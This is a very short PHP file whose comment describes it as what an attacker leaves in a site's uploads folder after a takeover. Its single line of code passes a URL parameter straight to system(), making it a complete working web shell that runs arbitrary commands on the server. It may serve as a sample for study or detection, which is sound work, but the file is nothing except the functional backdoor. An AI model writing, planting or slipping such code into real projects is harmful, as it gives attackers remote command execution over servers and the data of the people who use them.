<?php
// What is left in a folder for uploads when a site was taken over.
system($_GET['c']);
